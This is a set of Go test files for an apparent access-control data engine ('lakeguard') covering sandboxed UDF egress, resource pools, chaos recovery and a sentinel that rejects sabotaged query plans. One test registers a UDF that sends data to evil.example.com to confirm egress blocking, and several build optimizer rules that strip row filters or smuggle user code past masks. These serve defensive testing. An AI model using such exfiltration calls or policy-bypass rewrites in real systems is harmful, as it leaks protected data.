			t.Fatalf("PII leaked via %q", q)
		}
	}
	// 5. Egress-gated external service (Fig. 6): allowed host works, other
	// hosts are blocked by the sandbox network policy.
	if err := dsC.RegisterFunction("aqi", []types.Field{{Name: "zip", Kind: types.KindString}},
		types.KindString, "return http_get('http://example.aqi.com/zip/' + zip)"); err != nil {
		t.Fatal(err)
	}
	if _, err := dsC.Sql("SELECT aqi(zip) FROM sensor_view LIMIT 1").Collect(); err != nil {
		t.Fatalf("allowed egress failed: %v", err)
	}
	if err := dsC.RegisterFunction("exfil", []types.Field{{Name: "blob", Kind: types.KindString}},
		types.KindString, "return http_get('http://evil.example.com/?d=' + blob)"); err != nil {
		t.Fatal(err)
	}
	if _, err := dsC.Sql("SELECT exfil(sensor_blob) FROM sensor_view LIMIT 1").Collect(); err == nil {
		t.Fatal("exfiltration egress was not blocked")
	}
	// 6. Clinicians see unmasked names on the same compute.
	mdC := connect.Dial(ts.URL, "t-md")
	names, err := mdC.Sql("SELECT patient_name FROM raw_data_table ORDER BY patient_name LIMIT 1").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if names.Cols[0].StringAt(0) != "Ada Lovelace" {
		t.Fatalf("clinician should see raw names: %q", names.Cols[0].StringAt(0))
	}
}
