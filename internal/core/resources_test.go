package core

import (
	"strings"
	"testing"

	"lakeguard/internal/cluster"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// sandboxConfig aliases sandbox.Config for terse fixtures.
type sandboxConfig = sandbox.Config

// Specialized execution environments (paper §3.3): UDFs declaring a
// resource requirement ("gpu") route to a dedicated pool outside the
// standard executor hosts; resource classes are fusion barriers.

func newResourceEnv(t *testing.T) *env {
	t.Helper()
	return newEnv(t, Config{
		Name: "std",
		ResourcePools: map[string]cluster.PoolConfig{
			"gpu": {Hosts: 2},
		},
	})
}

func TestResourceUDFRoutesToSpecializedPool(t *testing.T) {
	e := newResourceEnv(t)
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE FUNCTION embed(s STRING) RETURNS STRING RESOURCE 'gpu' AS 'return sha256(s)'")
	b, err := c.Sql("SELECT embed(seller) AS v FROM sales LIMIT 1").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Cols[0].StringAt(0)) != 64 {
		t.Fatalf("gpu udf result: %q", b.Cols[0].StringAt(0))
	}
	mgr := e.server.ClusterManager()
	if mgr.PoolProvisioned("gpu") != 1 {
		t.Errorf("gpu pool provisions = %d, want 1", mgr.PoolProvisioned("gpu"))
	}
	// The sandbox landed on a gpu host, not a standard host.
	gpuCount := 0
	for _, h := range mgr.PoolHosts("gpu") {
		gpuCount += h.SandboxCount()
	}
	if gpuCount != 1 {
		t.Errorf("gpu hosts hold %d sandboxes", gpuCount)
	}
	for _, h := range mgr.Hosts() {
		if h.SandboxCount() != 0 {
			t.Errorf("standard host %s holds a gpu sandbox", h.ID)
		}
	}
}

func TestResourceClassIsFusionBarrier(t *testing.T) {
	e := newResourceEnv(t)
	c := e.client("tok-admin")
	seedSales(t, c)
	// Same owner, different resource classes: must not share a crossing.
	if err := c.RegisterResourceFunction("on_gpu", []types.Field{{Name: "x", Kind: types.KindFloat64}},
		types.KindFloat64, "gpu", "return x * 2.0"); err != nil {
		t.Fatal(err)
	}
	if err := c.RegisterFunction("on_cpu", []types.Field{{Name: "x", Kind: types.KindFloat64}},
		types.KindFloat64, "return x + 1.0"); err != nil {
		t.Fatal(err)
	}
	b, err := c.Sql("SELECT on_gpu(amount) AS g, on_cpu(amount) AS p FROM sales ORDER BY g LIMIT 1").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].Float64(0) != 50 || b.Cols[1].Float64(0) != 26 {
		t.Fatalf("results:\n%s", b.String())
	}
	mgr := e.server.ClusterManager()
	if mgr.PoolProvisioned("gpu") != 1 {
		t.Errorf("gpu provisions = %d", mgr.PoolProvisioned("gpu"))
	}
	// The cpu UDF used a standard sandbox (total provisions >= 2).
	if mgr.Provisioned() < 2 {
		t.Errorf("total provisions = %d, want >= 2 (no cross-pool fusion)", mgr.Provisioned())
	}
}

func TestUnknownResourcePoolFailsClearly(t *testing.T) {
	e := newEnv(t, Config{Name: "nopools"})
	c := e.client("tok-admin")
	seedSales(t, c)
	if err := c.RegisterResourceFunction("needs_tpu", nil, types.KindInt64, "tpu", "return 1"); err != nil {
		t.Fatal(err)
	}
	_, err := c.Sql("SELECT needs_tpu() AS r FROM sales LIMIT 1").Collect()
	if err == nil || !strings.Contains(err.Error(), "tpu") {
		t.Fatalf("err = %v", err)
	}
}

func TestResourcePoolCustomSandboxConfig(t *testing.T) {
	// The gpu pool can carry its own sandbox configuration (e.g. a larger
	// interpreter budget for heavy kernels).
	tiny := 2_000
	e := newEnv(t, Config{
		Name:    "mixed",
		Sandbox: sandboxCfgFuel(tiny),
		ResourcePools: map[string]cluster.PoolConfig{
			"gpu": {Hosts: 1, Sandbox: sandboxCfgFuelPtr(5_000_000)},
		},
	})
	c := e.client("tok-admin")
	seedSales(t, c)
	heavy := "total = 0\nfor i in range(500):\n    total = total + i\nreturn total"
	// On standard executors the tiny budget kills it...
	if err := c.RegisterFunction("heavy_cpu", nil, types.KindInt64, heavy); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Sql("SELECT heavy_cpu() AS r FROM sales LIMIT 1").Collect(); err == nil {
		t.Fatal("tiny default budget should kill the heavy kernel")
	}
	// ...but the gpu pool's budget accommodates it.
	if err := c.RegisterResourceFunction("heavy_gpu", nil, types.KindInt64, "gpu", heavy); err != nil {
		t.Fatal(err)
	}
	b, err := c.Sql("SELECT heavy_gpu() AS r FROM sales LIMIT 1").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].Int64(0) != 499*500/2 {
		t.Fatalf("r = %d", b.Cols[0].Int64(0))
	}
}

func sandboxCfgFuel(fuel int) sandboxConfig { return sandboxConfig{Fuel: fuel} }

func sandboxCfgFuelPtr(fuel int) *sandboxConfig {
	c := sandboxCfgFuel(fuel)
	return &c
}
