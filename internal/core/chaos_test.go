package core

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"lakeguard/internal/audit"
	"lakeguard/internal/connect"
	"lakeguard/internal/faults"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// registerWobbly seeds sales and registers a sandboxed UDF for chaos runs.
func registerWobbly(t *testing.T, c *connect.Client) {
	t.Helper()
	seedSales(t, c)
	if err := c.RegisterFunction("wobbly",
		[]types.Field{{Name: "usd", Kind: types.KindFloat64}},
		types.KindFloat64, "return usd * 2"); err != nil {
		t.Fatal(err)
	}
}

// sqlPlan builds the proto plan for a SQL query (direct server entry, so
// typed errors survive — the wire protocol flattens them to strings).
func sqlPlan(query string) *proto.Plan {
	return &proto.Plan{Relation: &plan.SQLRelation{Query: query}}
}

const wobblyQuery = "SELECT wobbly(amount) AS w FROM sales"

// TestChaosCrashRecoveryEndToEnd is the acceptance scenario: an injected
// interpreter crash mid-query surfaces as a structured SandboxCrashError
// (not a hang), the poisoned sandbox is evicted from its host, and the next
// query in the same trust domain gets a fresh sandbox and succeeds.
func TestChaosCrashRecoveryEndToEnd(t *testing.T) {
	inj := faults.New(faults.SeedFromEnv(1)).Add(
		faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindCrash, Times: 1},
	)
	e := newEnv(t, Config{Name: "std", Faults: inj})
	c := e.client("tok-admin")
	registerWobbly(t, c)

	_, _, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin, sqlPlan(wobblyQuery))
	var crash *sandbox.SandboxCrashError
	if !errors.As(err, &crash) {
		t.Fatalf("err = %v, want SandboxCrashError", err)
	}
	if crash.TrustDomain != admin {
		t.Errorf("crash domain = %q", crash.TrustDomain)
	}
	// The poisoned sandbox was quarantined and its host slot reclaimed.
	if got := e.server.ClusterManager().Evicted(); got != 1 {
		t.Errorf("evicted = %d, want 1", got)
	}
	st := e.server.Dispatcher().Stats()
	if st.Crashes != 1 || st.Active != 0 {
		t.Errorf("dispatcher stats = %+v", st)
	}
	// Same domain, next query: a fresh sandbox is provisioned and succeeds.
	schema, batches, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin, sqlPlan(wobblyQuery))
	if err != nil {
		t.Fatalf("query after quarantine: %v", err)
	}
	rows := 0
	for _, b := range batches {
		rows += b.NumRows()
	}
	if schema.Len() != 1 || rows != 6 {
		t.Fatalf("recovered query shape: %d cols, %d rows", schema.Len(), rows)
	}
	if got := e.server.Dispatcher().Stats().ColdStarts; got != 2 {
		t.Errorf("cold starts = %d, want fresh sandbox after crash", got)
	}
	// The crash is on the audit trail.
	if n := e.cat.Audit().Count(func(ev audit.Event) bool { return ev.Action == "SANDBOX_CRASH" }); n != 1 {
		t.Errorf("SANDBOX_CRASH audit events = %d", n)
	}
}

// TestChaosCircuitBreakerEndToEnd drives a crash-looping trust domain until
// its circuit breaker opens: further queries are refused with
// ErrDomainTripped and CIRCUIT_OPEN lands in the audit log, while the
// rest of the cluster keeps serving.
func TestChaosCircuitBreakerEndToEnd(t *testing.T) {
	inj := faults.New(faults.SeedFromEnv(1)).Add(
		faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindCrash},
	)
	e := newEnv(t, Config{
		Name: "std", Faults: inj,
		Supervisor: sandbox.SupervisorConfig{CircuitThreshold: 3, CircuitCooldown: time.Hour},
	})
	c := e.client("tok-admin")
	registerWobbly(t, c)

	for i := 0; i < 3; i++ {
		_, _, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin, sqlPlan(wobblyQuery))
		var crash *sandbox.SandboxCrashError
		if !errors.As(err, &crash) {
			t.Fatalf("query %d: err = %v, want SandboxCrashError", i, err)
		}
	}
	if consecutive, open := e.server.Dispatcher().BreakerState(admin); !open || consecutive != 3 {
		t.Fatalf("breaker = (%d, %v), want open", consecutive, open)
	}
	_, _, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin, sqlPlan(wobblyQuery))
	if !errors.Is(err, sandbox.ErrDomainTripped) {
		t.Fatalf("query on tripped domain = %v, want ErrDomainTripped", err)
	}
	if n := e.cat.Audit().Count(func(ev audit.Event) bool { return ev.Action == "CIRCUIT_OPEN" }); n != 1 {
		t.Errorf("CIRCUIT_OPEN audit events = %d", n)
	}
	// Non-UDF queries don't touch sandboxes and still work.
	if _, _, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin,
		sqlPlan("SELECT COUNT(*) AS n FROM sales")); err != nil {
		t.Fatalf("plain SQL blocked by breaker: %v", err)
	}
}

// TestChaosFaultSpecParsesFromEnv exercises the operator-facing FAULTS
// configuration path end to end: the spec string drives the same injector
// the tests build programmatically.
func TestChaosFaultSpecParsesFromEnv(t *testing.T) {
	t.Setenv("FAULTS", "sandbox.interpret:crash*1")
	t.Setenv("FAULTS_SEED", "42")
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	registerWobbly(t, c)
	_, _, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin, sqlPlan(wobblyQuery))
	var crash *sandbox.SandboxCrashError
	if !errors.As(err, &crash) {
		t.Fatalf("err = %v, want SandboxCrashError from FAULTS env", err)
	}
	if _, _, err := e.server.Execute(context.Background(), admin+"/"+c.SessionID(), admin, sqlPlan(wobblyQuery)); err != nil {
		t.Fatalf("after exhausting env-configured fault: %v", err)
	}
}

// TestDeadlinePropagatesOverWire sets a client-side timeout and verifies the
// deadline travels through the Connect header into the sandbox crossing,
// killing a wedged interpreter instead of hanging the query.
func TestDeadlinePropagatesOverWire(t *testing.T) {
	inj := faults.New(faults.SeedFromEnv(1)).Add(
		faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindHang, Times: 1},
	)
	e := newEnv(t, Config{Name: "std", Faults: inj})
	c := e.client("tok-admin")
	registerWobbly(t, c)
	c.SetTimeout(50 * time.Millisecond)

	start := time.Now()
	_, err := c.Sql(wobblyQuery).Collect()
	if err == nil {
		t.Fatal("hung query returned no error")
	}
	if elapsed := time.Since(start); elapsed > 10*time.Second {
		t.Fatalf("deadline ignored: query took %v", elapsed)
	}
	if !strings.Contains(err.Error(), "deadline") && !strings.Contains(err.Error(), "context") {
		t.Errorf("err = %v, want deadline cancellation", err)
	}
	// The wedged sandbox was destroyed; a fresh query on the same session
	// succeeds without a timeout.
	c.SetTimeout(0)
	if _, err := c.Sql(wobblyQuery).Collect(); err != nil {
		t.Fatalf("query after deadline kill: %v", err)
	}
}

// TestDeadlineCancelsPullLoop covers the engine-side check: a context that
// expires between batches aborts the pull loop even with no sandbox in the
// plan.
func TestDeadlineCancelsPullLoop(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := e.server.Execute(ctx, admin+"/"+c.SessionID(), admin, sqlPlan("SELECT COUNT(*) AS n FROM sales"))
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// TestChaosEFGACRetriesTransientFaults injects transient failures into the
// eFGAC submission path and verifies the retry layer recovers within the
// budget — and gives up cleanly beyond it.
func TestChaosEFGACRetriesTransientFaults(t *testing.T) {
	dedicated, _, efgac := newEFGACWorld(t, 0)
	efgac.Faults = faults.New(faults.SeedFromEnv(1)).Add(
		faults.Rule{Site: faults.SiteEFGACRemote, Kind: faults.KindError, Times: 2},
	)
	efgac.RetryBase = time.Millisecond

	std := newEnv(t, Config{Name: "std", Catalog: dedicated.cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	aliceC := dedicated.client("tok-alice")
	b, err := aliceC.Sql("SELECT amount FROM sales ORDER BY amount").Collect()
	if err != nil {
		t.Fatalf("eFGAC query did not survive transient faults: %v", err)
	}
	if b.NumRows() != 3 { // US rows only
		t.Fatalf("rows = %d\n%s", b.NumRows(), b.String())
	}
	if got := efgac.Retries(); got != 2 {
		t.Errorf("retries = %d, want 2", got)
	}

	// Beyond the retry budget the transient error surfaces.
	efgac.Faults = faults.New(faults.SeedFromEnv(1)).Add(
		faults.Rule{Site: faults.SiteEFGACRemote, Kind: faults.KindError},
	)
	if _, err := aliceC.Sql("SELECT amount FROM sales").Collect(); err == nil ||
		!strings.Contains(err.Error(), "injected") {
		t.Fatalf("exhausted retries: err = %v", err)
	}
}
