package core

import (
	"strings"
	"testing"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/catalog"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sql"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

// Figure 8 of the paper: the source query
//
//	SELECT amount, date, seller FROM sales WHERE date = '2024-12-01'
//
// over a row-filtered table resolves, on trusted compute, to a plan whose
// filter sits under a SecureView; on privileged (dedicated) compute it is
// rewritten to a RemoteScan with the user's filter and projection pushed
// into the remote subquery, and no trace of the policy locally. These golden
// tests pin each artifact of that translation.

const figure8Query = "SELECT amount, date, seller FROM sales WHERE date = '2024-12-01'"

func figure8Catalog(t *testing.T) *catalog.Catalog {
	t.Helper()
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	schema := types.NewSchema(
		types.Field{Name: "amount", Kind: types.KindFloat64},
		types.Field{Name: "date", Kind: types.KindDate},
		types.Field{Name: "seller", Kind: types.KindString},
		types.Field{Name: "region", Kind: types.KindString},
	)
	actx := catalog.RequestContext{User: admin, Compute: catalog.ComputeStandard, SessionID: "fig8"}
	if err := cat.CreateTable(actx, []string{"sales"}, schema, false, ""); err != nil {
		t.Fatal(err)
	}
	if err := cat.SetRowFilter(actx, []string{"sales"}, "region = 'US'", false); err != nil {
		t.Fatal(err)
	}
	if err := cat.Grant(actx, catalog.PrivSelect, []string{"sales"}, alice); err != nil {
		t.Fatal(err)
	}
	return cat
}

func figure8Plan(t *testing.T, cat *catalog.Catalog, compute catalog.ComputeType) plan.Node {
	t.Helper()
	q, err := sql.ParseQuery(figure8Query)
	if err != nil {
		t.Fatal(err)
	}
	a := analyzer.New(cat, catalog.RequestContext{User: alice, Compute: compute, SessionID: "fig8"})
	resolved, err := a.Analyze(q)
	if err != nil {
		t.Fatal(err)
	}
	return optimizer.Optimize(resolved, optimizer.DefaultOptions())
}

func TestFigure8ResolvedPlanOnTrustedCompute(t *testing.T) {
	cat := figure8Catalog(t)
	p := figure8Plan(t, cat, catalog.ComputeStandard)

	// Full (engine-internal) form: the injected row filter is a real Filter
	// over the scan, beneath the SecureView barrier.
	full := plan.Explain(p)
	for _, want := range []string{
		"SecureView main.default.sales [row_filter]",
		"(region#3 = 'US')",
		"Scan main.default.sales",
	} {
		if !strings.Contains(full, want) {
			t.Errorf("full plan missing %q:\n%s", want, full)
		}
	}
	// Client-visible form: the barrier interior is redacted.
	golden := strings.Join([]string{
		"Project [amount#0, date#1, seller#2]",
		"  +- Filter (date#1 = DATE '2024-12-01')",
		"    +- SecureView main.default.sales [row_filter] <redacted>",
		"",
	}, "\n")
	if got := plan.ExplainRedacted(p); got != golden {
		t.Errorf("redacted plan drifted from Figure 8 golden:\ngot:\n%s\nwant:\n%s", got, golden)
	}
}

func TestFigure8RewrittenPlanOnDedicatedCompute(t *testing.T) {
	cat := figure8Catalog(t)
	p := figure8Plan(t, cat, catalog.ComputeDedicated)

	golden := strings.Join([]string{
		"Project [amount#0, date#1, seller#2]",
		"  +- RemoteScan main.default.sales project=[amount, date, seller] filters=[(date = DATE '2024-12-01')]",
		"",
	}, "\n")
	if got := plan.Explain(p); got != golden {
		t.Errorf("rewritten plan drifted from Figure 8 golden:\ngot:\n%s\nwant:\n%s", got, golden)
	}
	// The policy must be absent in any rendering of the dedicated plan.
	if strings.Contains(plan.Explain(p), "US") {
		t.Error("policy literal leaked into the rewritten plan")
	}
}

func TestFigure8RemoteSubqueryText(t *testing.T) {
	cat := figure8Catalog(t)
	p := figure8Plan(t, cat, catalog.ComputeDedicated)
	var rs *plan.RemoteScan
	plan.Walk(p, func(n plan.Node) bool {
		if r, ok := n.(*plan.RemoteScan); ok {
			rs = r
		}
		return true
	})
	if rs == nil {
		t.Fatal("no RemoteScan in dedicated plan")
	}
	got := RenderRemoteSQL(rs)
	want := "SELECT amount, date, seller FROM main.default.sales WHERE (date = DATE '2024-12-01')"
	if got != want {
		t.Errorf("remote subquery = %q, want %q", got, want)
	}
	// And the rendered text re-parses and re-resolves on serverless compute,
	// where the row filter is re-injected (the round trip of Fig. 8).
	q, err := sql.ParseQuery(got)
	if err != nil {
		t.Fatalf("rendered subquery does not parse: %v", err)
	}
	a := analyzer.New(cat, catalog.RequestContext{User: alice, Compute: catalog.ComputeServerless, SessionID: "fig8-remote"})
	remote, err := a.Analyze(q)
	if err != nil {
		t.Fatalf("rendered subquery does not resolve remotely: %v", err)
	}
	if !plan.Contains(remote, func(n plan.Node) bool {
		sv, ok := n.(*plan.SecureView)
		return ok && sv.PolicyKinds[0] == "row_filter"
	}) {
		t.Error("serverless side did not re-inject the row filter")
	}
}
