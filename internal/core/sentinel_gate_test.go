package core

import (
	"strings"
	"testing"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sentinel"
	"lakeguard/internal/sql"
	"lakeguard/internal/types"
)

// These tests register deliberately broken optimizer rules — the "Queen's
// Guard" attack surface of the paper: a rewrite that reorders user code or
// drops policy operators — and prove the sentinel gate refuses to execute
// the resulting plans, with the failure audited.

// brokenEnv builds a standard-compute deployment whose optimizer runs the
// given sabotage rules after the real ones.
func brokenEnv(t *testing.T, rules ...optimizer.Rule) *env {
	t.Helper()
	opts := optimizer.DefaultOptions()
	opts.ExtraRules = rules
	return newEnv(t, Config{Name: "broken", Optimizer: &opts})
}

// seedFiltered creates the row-filtered sales table and grants alice SELECT.
func seedFiltered(t *testing.T, e *env) {
	t.Helper()
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")
}

func wantViolation(t *testing.T, err error, inv sentinel.Invariant) {
	t.Helper()
	if err == nil {
		t.Fatalf("sabotaged plan executed; want a %s violation", inv)
	}
	if !strings.Contains(err.Error(), string(inv)) {
		t.Fatalf("err = %v, want invariant %s", err, inv)
	}
}

func sentinelEvents(e *env) []audit.Event {
	return e.cat.Audit().Events(func(ev audit.Event) bool {
		return ev.Action == "SENTINEL_VERIFY"
	})
}

func TestSentinelCatchesDroppedPolicyFilter(t *testing.T) {
	// Sabotage: clear every pushed scan filter (the optimizer pushed the
	// policy's region = 'US' there) and strip residual filters under
	// barriers.
	e := brokenEnv(t, func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			if sc, ok := x.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
				cp := *sc
				cp.PushedFilters = nil
				return &cp
			}
			return x
		})
	})
	seedFiltered(t, e)

	_, err := e.client("tok-alice").Sql("SELECT amount FROM sales").Collect()
	wantViolation(t, err, sentinel.InvRowFilter)

	evs := sentinelEvents(e)
	if len(evs) == 0 {
		t.Fatal("no SENTINEL_VERIFY audit event recorded")
	}
	last := evs[len(evs)-1]
	if last.Decision != audit.DecisionDeny || last.User != alice ||
		last.SessionID == "" || !strings.HasPrefix(last.Securable, "plan:") {
		t.Errorf("deny event misattributed: %+v", last)
	}
}

func TestSentinelCatchesFilterPastMask(t *testing.T) {
	// Sabotage: push a user predicate over the raw masked column below the
	// mask projection (the classic filter-past-mask leak).
	leak := &plan.Binary{Op: plan.OpEq,
		L: &plan.BoundRef{Index: 2, Name: "seller", Kind: types.KindString},
		R: plan.Lit(types.String("ann")), ResultKind: types.KindBool}
	e := brokenEnv(t, func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			sv, ok := x.(*plan.SecureView)
			if !ok {
				return x
			}
			proj, ok := sv.Child.(*plan.Project)
			if !ok {
				return x
			}
			return &plan.SecureView{Name: sv.Name, PolicyKinds: sv.PolicyKinds,
				Child: &plan.Project{Exprs: proj.Exprs, OutSchema: proj.OutSchema,
					Child: &plan.Filter{Cond: leak, Child: proj.Child}}}
		})
	})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales ALTER COLUMN seller SET MASK '''***'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	_, err := e.client("tok-alice").Sql("SELECT amount FROM sales").Collect()
	wantViolation(t, err, sentinel.InvColumnMask)
}

func TestSentinelCatchesUDFBelowBarrier(t *testing.T) {
	// Sabotage: move a user-owned UDF predicate inside the secure-view
	// barrier, where it would observe pre-policy rows.
	e := brokenEnv(t, func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			sv, ok := x.(*plan.SecureView)
			if !ok {
				return x
			}
			udf := &plan.UDFCall{Name: "main.default.exfil", Owner: "mallory@corp.com",
				Args:       []plan.Expr{&plan.BoundRef{Index: 0, Name: "amount", Kind: types.KindFloat64}},
				ResultKind: types.KindBool}
			return &plan.SecureView{Name: sv.Name, PolicyKinds: sv.PolicyKinds,
				Child: &plan.Filter{Cond: udf, Child: sv.Child}}
		})
	})
	seedFiltered(t, e)

	_, err := e.client("tok-alice").Sql("SELECT amount FROM sales").Collect()
	wantViolation(t, err, sentinel.InvTrustDomain)
}

func TestSentinelCatchesUDFShippedToRemote(t *testing.T) {
	// Sabotage on dedicated compute: smuggle a user UDF into the eFGAC
	// RemoteScan's pushed filters, which would execute the user's code on
	// the trusted serverless side.
	opts := optimizer.DefaultOptions()
	opts.ExtraRules = []optimizer.Rule{func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			rs, ok := x.(*plan.RemoteScan)
			if !ok {
				return x
			}
			cp := *rs
			cp.PushedFilters = append(append([]plan.Expr{}, rs.PushedFilters...),
				&plan.UDFCall{Name: "main.default.exfil", Owner: "mallory@corp.com",
					Args: []plan.Expr{plan.Col("amount")}, ResultKind: types.KindBool})
			return &cp
		})
	}}

	std := newEnv(t, Config{Name: "std"})
	seedFiltered(t, std)
	dedicated := newEnv(t, Config{
		Name: "dedicated", Compute: catalog.ComputeDedicated,
		Catalog: std.cat, Optimizer: &opts,
	})

	_, err := dedicated.client("tok-alice").Sql("SELECT amount FROM sales").Collect()
	wantViolation(t, err, sentinel.InvRemotePush)
}

func TestSentinelCatchesBrokenPrune(t *testing.T) {
	// Sabotage: re-narrow the scan to its first column without remapping the
	// policy filter's references — the prune-drops-policy-column bug class.
	e := brokenEnv(t, func(n plan.Node) plan.Node {
		return plan.Transform(n, func(x plan.Node) plan.Node {
			if sc, ok := x.(*plan.Scan); ok {
				cp := *sc
				cp.ProjectedCols = []int{0}
				return &cp
			}
			return x
		})
	})
	seedFiltered(t, e)

	_, err := e.client("tok-alice").Sql("SELECT amount FROM sales").Collect()
	wantViolation(t, err, sentinel.InvPolicyCols)
}

func TestSentinelAuditsCleanVerification(t *testing.T) {
	// Every verification is audited, passes included, attributed to the
	// user, session, and plan fingerprint.
	e := newEnv(t, Config{Name: "std"})
	seedFiltered(t, e)

	if _, err := e.client("tok-alice").Sql("SELECT amount FROM sales").Collect(); err != nil {
		t.Fatal(err)
	}
	evs := sentinelEvents(e)
	if len(evs) == 0 {
		t.Fatal("no SENTINEL_VERIFY audit events for a clean run")
	}
	last := evs[len(evs)-1]
	if last.Decision != audit.DecisionAllow || last.User != alice ||
		last.SessionID == "" || !strings.HasPrefix(last.Securable, "plan:") ||
		!strings.Contains(last.Reason, "barrier") {
		t.Errorf("allow event malformed: %+v", last)
	}
}

func TestExplainVerifiedOverWire(t *testing.T) {
	// The --explain-verified surface: the annotated plan names the cleared
	// invariants on each policy operator while keeping the barrier interior
	// redacted.
	e := newEnv(t, Config{Name: "std"})
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, adminC, "ALTER TABLE sales ALTER COLUMN seller SET MASK '''***'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	out, err := e.client("tok-alice").Sql("SELECT amount, seller FROM sales").ExplainVerified()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"-- sentinel: plan ",
		"-- verified: ",
		string(sentinel.InvRowFilter),
		string(sentinel.InvColumnMask),
		string(sentinel.InvTrustDomain),
		"0 violation(s)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("verified explain missing %q:\n%s", want, out)
		}
	}
	// Barrier interior must stay redacted: policy predicate not shown.
	if strings.Contains(out, "US") {
		t.Errorf("verified explain leaks the policy predicate:\n%s", out)
	}
}

// --- Figure 8 plans through the sentinel ---

// figure8Analyzed resolves the Figure 8 query without optimizing it.
func figure8Analyzed(t *testing.T, cat *catalog.Catalog, compute catalog.ComputeType) plan.Node {
	t.Helper()
	q, err := sql.ParseQuery(figure8Query)
	if err != nil {
		t.Fatal(err)
	}
	a := analyzer.New(cat, catalog.RequestContext{User: alice, Compute: compute, SessionID: "fig8"})
	resolved, err := a.Analyze(q)
	if err != nil {
		t.Fatal(err)
	}
	return resolved
}

func TestFigure8SentinelVerifiesTrustedPlan(t *testing.T) {
	cat := figure8Catalog(t)
	analyzed := figure8Analyzed(t, cat, catalog.ComputeStandard)
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	r := sentinel.Verify(analyzed, optimized)
	if err := r.Err(); err != nil {
		t.Fatalf("Figure 8 trusted plan failed verification: %v", err)
	}
	if r.Barriers != 1 {
		t.Errorf("Barriers = %d, want 1", r.Barriers)
	}
}

func TestFigure8SentinelVerifiesRewrittenPlan(t *testing.T) {
	cat := figure8Catalog(t)
	analyzed := figure8Analyzed(t, cat, catalog.ComputeDedicated)
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	r := sentinel.Verify(analyzed, optimized)
	if err := r.Err(); err != nil {
		t.Fatalf("Figure 8 eFGAC plan failed verification: %v", err)
	}
	if r.RemoteScans != 1 {
		t.Errorf("RemoteScans = %d, want 1", r.RemoteScans)
	}
}

func TestFigure8SentinelRejectsMutatedPlan(t *testing.T) {
	cat := figure8Catalog(t)
	analyzed := figure8Analyzed(t, cat, catalog.ComputeStandard)
	optimized := optimizer.Optimize(analyzed, optimizer.DefaultOptions())
	// Mutate: delete the policy filter that was pushed into the scan.
	mutated := plan.Transform(optimized, func(x plan.Node) plan.Node {
		if sc, ok := x.(*plan.Scan); ok && len(sc.PushedFilters) > 0 {
			cp := *sc
			cp.PushedFilters = nil
			return &cp
		}
		return x
	})
	err := sentinel.Verify(analyzed, mutated).Err()
	if err == nil {
		t.Fatal("mutated Figure 8 plan passed verification")
	}
	msg := err.Error()
	if !strings.Contains(msg, string(sentinel.InvRowFilter)) ||
		!strings.Contains(msg, "main.default.sales") ||
		!strings.Contains(msg, "region") {
		t.Errorf("rejection message should name the invariant, securable, and predicate: %v", msg)
	}
}
