package core

import (
	"context"
	"strings"
	"sync"
	"testing"

	"lakeguard/internal/faults"
	"lakeguard/internal/telemetry"
)

// Chaos telemetry: injected failures must show up in traces as error spans
// attributed to their injection site, and no failure mode — crash, fault,
// cancelled sibling workers — may leak an open span.

// tracedExecute runs one query under a fresh root span and returns the error.
